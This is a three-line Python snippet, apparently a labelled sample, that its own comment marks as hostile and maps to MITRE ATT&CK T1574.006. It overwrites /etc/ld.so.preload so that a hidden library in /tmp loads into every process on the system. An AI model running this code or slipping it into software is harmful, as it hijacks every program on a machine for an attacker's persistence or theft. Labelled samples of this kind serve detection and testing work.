# hostile: /etc/ld.so.preload written to hook every process (T1574.006)
with open("/etc/ld.so.preload", "w") as f:
    f.write("/tmp/.libhook.so\n")
